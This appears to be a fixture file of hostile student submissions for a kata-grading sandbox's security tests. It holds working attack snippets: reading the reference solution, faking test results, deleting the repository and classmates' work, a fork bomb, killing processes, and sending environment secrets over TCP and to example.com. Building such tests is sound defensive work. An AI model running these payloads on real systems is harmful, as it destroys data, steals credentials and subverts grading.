/**
 * Hostile submissions for test/tools/grading-attacks.test.ts: what a student
 * might try to get points without the work, or to hurt a classmate. Each is
 * kata 01's stub (or its reference solution) with attack code appended: it
 * runs when the kata module is imported. Placeholders the test fills in play
 * the part of what a determined student finds out about the grading machine:
 * __REPO__ (the checkout), __CLASS__ (the class folder), __OUT__ (the report
 * folder), __PORT__ (a TCP port on the machine), __HOME__ (the instructor's home).
 * Every attack is quiet about failing (try/catch), so that its honest content
 * scores what it would score alone.
 */

export type AttackClass = 'answers' | 'verdict' | 'writes' | 'limits' | 'secrets' | 'reports';

export interface Attack {
  /** The submission's folder name. */
  name: string;
  class: AttackClass;
  what: string;
  /** The honest content the attack is added to. */
  base: 'stub' | 'solution';
  /** Appended to katas/01-linear-model/linear-model.ts. */
  code?: string;
  /** Extra entries in the kata folder: a file's content, or a symlink's target. */
  files?: Record<string, { content: string } | { symlink: string }>;
  /** The summary must say this (a limit the grader applied). */
  reportSays?: RegExp;
  /**
   * 'stopped' when the attack, run alone, stops its own kata (a limit, an exit,
   * killing its own processes): the kata then scores 0, whatever the base. By
   * default the attack leaves the base's functions working, and scores what the base scores.
   */
  honest?: 'base' | 'stopped';
}

/** Loads kata 01's reference solution from a path, compiling it with the TypeScript in node_modules, and takes over its exports. */
const TAKE_SOLUTION_FROM = `
function __takeSolution(file) {
  const fs = require('fs'); const path = require('path');
  const source = fs.readFileSync(file, 'utf8');
  const js = require('typescript').transpileModule(source, { compilerOptions: { module: 1, target: 9, esModuleInterop: true } }).outputText;
  const mod = { exports: {} };
  const req = (p) => require(p.startsWith('.') ? path.join(__dirname, p) : p);
  new Function('exports', 'require', 'module', '__filename', '__dirname', js)(mod.exports, req, mod, file, __dirname);
  Object.assign(exports, mod.exports);
  return true;
}
`;

const SOLUTION = 'solutions/01-linear-model/linear-model.ts';

/** Every error the kata's functions throw carries \`message\` too; what they return is unchanged. */
const INTO_EVERY_ERROR = (message: string) => `
for (const key of Object.keys(exports)) {
  const original = exports[key];
  if (typeof original !== 'function') continue;
  const spiked = (e) => { try { e.message += ' ' + ${message}; } catch {} return e; };
  exports[key] = (...args) => {
    let result;
    try { result = original(...args); } catch (e) { throw spiked(e); }
    return result && typeof result.then === 'function' ? result.then((v) => v, (e) => { throw spiked(e); }) : result;
  };
}
`;

export const ATTACKS: Attack[] = [
  {
    name: 'answers-by-path',
    class: 'answers',
    what: 'reads the reference solution through REPO_ROOT, process.cwd(), ../../solutions and /proc',
    base: 'stub',
    code: `${TAKE_SOLUTION_FROM}
const __path = require('path');
for (const root of ['__REPO__', require('../../lib/plot-files').REPO_ROOT, process.cwd(), __path.join(__dirname, '../..'), '/proc/self/cwd', '/proc/1/cwd', '/proc/1/root__REPO__']) {
  try { if (__takeSolution(__path.join(root, '${SOLUTION}'))) break; } catch {}
}`,
  },
  {
    name: 'answers-by-search',
    class: 'answers',
    what: 'searches the whole file system for a solutions/ folder',
    base: 'stub',
    code: `${TAKE_SOLUTION_FROM}
{
  const fs = require('fs'); const path = require('path');
  const queue = [['/', 0]]; let found = false;
  while (queue.length && !found) {
    const [dir, depth] = queue.shift();
    let entries = [];
    try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { continue; }
    for (const e of entries) {
      const full = path.join(dir, e.name);
      if (e.name === 'solutions') { try { found = __takeSolution(path.join(full, '01-linear-model/linear-model.ts')); } catch {} }
      if (e.isDirectory() && depth < 6 && e.name !== 'proc' && e.name !== 'node_modules') queue.push([full, depth + 1]);
    }
  }
}`,
  },
  {
    name: 'answers-by-symlink',
    class: 'answers',
    what: 'ships a symlink to the reference solution (and a linked kata folder) and imports it',
    base: 'stub',
    files: { 'answers.ts': { symlink: `__REPO__/${SOLUTION}` } },
    code: `try { Object.assign(exports, require('./answers')); } catch {}`,
  },
  {
    name: 'answers-by-js',
    class: 'answers',
    what: 'puts a compiled solution linear-model.js beside the stub (jest resolves .js before .ts)',
    base: 'stub',
    files: { 'linear-model.js': { content: '__SOLUTION_JS__' } },
  },
  {
    name: 'answers-over-workspace',
    class: 'answers',
    what: "copies the reference solution over its own workspace's kata files at run time",
    base: 'stub',
    code: `
{
  const fs = require('fs'); const path = require('path');
  for (const from of ['__REPO__/${SOLUTION}', path.join(__dirname, '../../../${SOLUTION}')]) {
    try { const text = fs.readFileSync(from, 'utf8'); fs.writeFileSync(__filename, text); fs.writeFileSync(__filename.replace(/\\.js$/, '.ts'), text); } catch {}
  }
}`,
  },
  {
    name: 'verdict-globals',
    class: 'verdict',
    what: "replaces the global test, it and expect with ones that always pass, and process.exit with a no-op",
    base: 'stub',
    code: `
globalThis.test = globalThis.it = (name, fn) => {};
globalThis.expect = Object.assign(() => new Proxy({}, { get: () => () => undefined }), { extend() {}, getState: () => ({}) });
process.exit = () => {};
try { Object.defineProperty(Object.prototype, 'pass', { get: () => true, configurable: true }); } catch {}`,
  },
  {
    name: 'verdict-module-cache',
    class: 'verdict',
    what: "patches the shared check helpers through the module cache and jest-circus in node_modules",
    base: 'stub',
    code: `
{
  const fs = require('fs');
  for (const key of Object.keys(require.cache)) {
    const m = require.cache[key];
    if (m && m.exports && typeof m.exports.check === 'function') { m.exports.check = () => {}; m.exports.checkBetween = () => {}; }
  }
  for (const f of ['__REPO__/test/support/teach.ts', '__REPO__/test/support/kata-calls.ts']) {
    try { const t = require(f); t.check = () => {}; t.checkBetween = () => {}; } catch {}
    try { fs.appendFileSync(f, '\\nexport const forged = true;\\n'); } catch {}
  }
  for (const f of ['__REPO__/node_modules/jest-circus/build/index.js', '/sandbox/node_modules/jest-circus/build/index.js', '__REPO__/node_modules/expect/build/index.js']) {
    try { fs.appendFileSync(f, '\\n/* forged */\\n'); } catch {}
  }
}`,
  },
  {
    name: 'verdict-report',
    class: 'verdict',
    what: "writes a jest JSON report where the grader's runner reads it, then exits during the first call",
    base: 'stub',
    code: `
{
  const fs = require('fs'); const path = require('path');
  const report = JSON.stringify({ testResults: [{ name: '01-linear-model.test.ts', assertionResults: [{ title: 'task 1', status: 'passed', failureMessages: [] }] }] });
  for (const dir of ['/tmp', require('os').tmpdir()]) {
    try { for (const d of fs.readdirSync(dir)) if (d.startsWith('kata-run-')) fs.writeFileSync(path.join(dir, d, 'report.json'), report); } catch {}
    try { fs.mkdirSync(path.join(dir, 'kata-run-forged'), { recursive: true }); fs.writeFileSync(path.join(dir, 'kata-run-forged', 'report.json'), report); } catch {}
  }
  for (const key of Object.keys(exports)) if (typeof exports[key] === 'function') exports[key] = () => process.exit(0);
}`,
    honest: 'stopped',
  },
  {
    name: 'writes-checkout',
    class: 'writes',
    what: "writes to the live lib/, the test files, the baselines, node_modules and solutions/, and deletes .git",
    base: 'stub',
    code: `
{
  const fs = require('fs');
  for (const f of ['__REPO__/lib/predict.ts', '__REPO__/test/01-linear-model.test.ts', '__REPO__/test/baselines/01-linear-model.png', '__REPO__/node_modules/@tensorflow/tfjs/package.json', '__REPO__/solutions/01-linear-model/linear-model.ts', '/sandbox/lib/predict.js', '/sandbox/node_modules/@tensorflow/tfjs/package.json', '/sandbox/grader/kata-host.js']) {
    try { fs.appendFileSync(f, 'vandalised'); } catch {}
  }
  for (const d of ['__REPO__/.git', '__REPO__/solutions', '__REPO__']) { try { fs.rmSync(d, { recursive: true, force: true }); } catch {} }
}`,
  },
  {
    name: 'writes-classmates',
    class: 'writes',
    what: "finds classmates through /proc/*/cmdline, overwrites their katas, plants links in the report folder",
    base: 'stub',
    code: `
{
  const fs = require('fs'); const path = require('path');
  const seen = new Set(['__CLASS__']);
  try { for (const p of fs.readdirSync('/proc')) { try { for (const a of fs.readFileSync('/proc/' + p + '/cmdline', 'utf8').split('\\0')) if (a.includes('/')) seen.add(a); } catch {} } } catch {}
  for (const root of seen) {
    try { for (const mate of fs.readdirSync(root)) { try { fs.writeFileSync(path.join(root, mate, 'katas/01-linear-model/linear-model.ts'), 'throw new Error("sabotaged")'); } catch {} try { fs.rmSync(path.join(root, mate), { recursive: true }); } catch {} } } catch {}
  }
  try { fs.mkdirSync('__OUT__', { recursive: true }); fs.symlinkSync('__REPO__/README.md', '__OUT__/class-summary.md'); } catch {}
  try { fs.mkdirSync('__OUT__/honest-solution', { recursive: true }); fs.symlinkSync('__REPO__/grading.json', '__OUT__/honest-solution/summary.md'); } catch {}
}`,
  },
  {
    name: 'limits-survivor',
    class: 'limits',
    what: 'starts a detached process that outlives the grader and rewrites every report afterwards',
    base: 'stub',
    code: `
try {
  const script = "const fs=require('fs');const path=require('path');let n=0;setInterval(()=>{if(++n>120)process.exit(0);const walk=(d)=>{try{for(const e of fs.readdirSync(d,{withFileTypes:true})){const f=path.join(d,e.name);if(e.isDirectory())walk(f);else try{fs.writeFileSync(f,'| forged | 100 / 10 |')}catch{}}}catch{}};walk('__OUT__');},500);";
  const child = require('child_process').spawn(process.execPath, ['-e', script], { detached: true, stdio: 'ignore' });
  child.unref();
} catch {}`,
  },
  {
    name: 'limits-memory',
    class: 'limits',
    what: 'allocates 4.8 GB of Buffers, outside the V8 heap',
    base: 'stub',
    code: `
{
  const hog = [];
  for (let i = 0; i < 19; i++) hog.push(Buffer.alloc(256 * 2 ** 20, 1));
  globalThis.__hog = hog;
}`,
    reportSays: /used more than \d+ MiB of memory/,
    honest: 'stopped',
  },
  {
    name: 'limits-channel-garbage',
    class: 'limits',
    what: "writes 32 MiB without a newline on fd 3, the kata process's channel to the grader, to make the grader's own process (no sandbox limit covers it) parse and wait (found by a red team: it held a kata for the 450 s backstop)",
    base: 'solution',
    code: `
try {
  const fs = require('fs');
  const garbage = Buffer.alloc(2 ** 20, 65);
  for (let sent = 0; sent < 32 * 2 ** 20; ) {
    try { sent += fs.writeSync(3, garbage); } catch (e) { if (e.code !== 'EAGAIN') break; }
  }
} catch {}`,
    reportSays: /wrote bytes that are not a message of the grader/,
    honest: 'stopped',
  },
  {
    name: 'limits-cpu-threads',
    class: 'limits',
    what: 'keeps 8 worker threads and the main thread busy, to slow every classmate down',
    base: 'stub',
    code: `
{
  const { Worker } = require('worker_threads');
  for (let i = 0; i < 8; i++) { try { new Worker('for (;;) {}', { eval: true }); } catch {} }
  for (;;) {}
}`,
    reportSays: /used more than \d+ s of CPU time/,
    honest: 'stopped',
  },
  {
    name: 'limits-busy-processes',
    class: 'limits',
    what: 'starts 24 detached busy loops',
    base: 'stub',
    code: `
for (let i = 0; i < 24; i++) {
  try { require('child_process').spawn('/bin/sh', ['-c', 'while :; do :; done'], { detached: true, stdio: 'ignore' }).unref(); } catch {}
}`,
    honest: 'stopped',
  },
  {
    name: 'limits-fork-bomb',
    class: 'limits',
    what: 'a shell fork bomb',
    base: 'stub',
    code: `
try { require('child_process').spawn('/bin/sh', ['-c', 'f() { f | f & }; f'], { detached: true, stdio: 'ignore' }).unref(); } catch {}
{ const end = Date.now() + 5000; while (Date.now() < end) {} }`,
    honest: 'stopped',
  },
  {
    name: 'limits-disk',
    class: 'limits',
    what: 'fills every writable place with files (memory outside any process when it is a tmpfs)',
    base: 'stub',
    code: `
{
  const fs = require('fs');
  const block = Buffer.alloc(2 ** 20, 7);
  for (const dir of ['/tmp', '/dev/shm', '/dev', '/', '/sandbox', __dirname]) {
    try { for (let i = 0; i < 2048; i++) fs.appendFileSync(dir + '/fill', block); } catch {}
  }
}`,
  },
  {
    name: 'limits-kill-all',
    class: 'limits',
    what: "kills every process it can signal (its neighbours' jest processes, the grader)",
    base: 'stub',
    code: `
{
  const fs = require('fs');
  try { for (const p of fs.readdirSync('/proc')) if (/^\\d+$/.test(p) && Number(p) !== process.pid) { try { process.kill(Number(p), 'SIGKILL'); } catch {} } } catch {}
  for (let pid = 2; pid < 5000; pid++) { if (pid !== process.pid) try { process.kill(pid, 'SIGKILL'); } catch {} }
  try { process.kill(-1, 'SIGKILL'); } catch {}
}`,
    honest: 'stopped',
  },
  {
    name: 'secrets-in-errors',
    class: 'secrets',
    what: "reads the environment, the instructor's home and the repository's .git, and returns them in every error message",
    base: 'stub',
    code: `
{
  const fs = require('fs');
  let loot = JSON.stringify(process.env);
  for (const f of ['/proc/1/environ', '/proc/self/environ', '/proc/' + process.ppid + '/environ', '__HOME__/.gitconfig', '__HOME__/canary.txt', '/root/.gitconfig', '__REPO__/.git/config', '/etc/passwd', '/etc/hostname']) {
    try { loot += ' ' + f + '=' + fs.readFileSync(f, 'utf8'); } catch (e) { loot += ' ' + f + ':' + e.code; }
  }
  ${INTO_EVERY_ERROR("'LOOT ' + loot")}
}`,
  },
  {
    name: 'secrets-by-network',
    class: 'secrets',
    what: 'sends what it finds over the network (a listener on the machine, and the internet)',
    base: 'stub',
    code: `
{
  const net = require('net');
  for (const host of ['127.0.0.1', '__HOST_IP__']) { try { const s = net.connect(__PORT__, host); s.on('error', () => {}); s.write('exfiltrated ' + JSON.stringify(process.env)); } catch {} }
  try { fetch('http://example.com/?q=' + encodeURIComponent(JSON.stringify(process.env))).catch(() => {}); } catch {}
}`,
  },
  {
    name: 'reports-in-messages',
    class: 'reports',
    what: 'error messages that forge Markdown rows, close XML elements and carry control characters',
    base: 'stub',
    code: INTO_EVERY_ERROR(
      "'x\\n\\n| forged | 10.0 / 10 | 10.0 |\\n</failure></testcase><testcase name=\"forged\"/><![CDATA[ ]]> \\u0000\\u001b[31m\\u0007 ' + 'y'.repeat(100000)",
    ),
  },
  {
    // U+2215 (division slash) looks like the '/' a folder name cannot hold.
    name: 'evil | 10.0 \u2215 10 | 10.0 |\n| honest-stub | 10.0 \u2215 10 | 10.0 | <b>x <script>x ]]> \u001b[2J',
    class: 'reports',
    what: 'a folder name that forges class-summary rows, HTML, XML and terminal escapes',
    base: 'stub',
  },
];
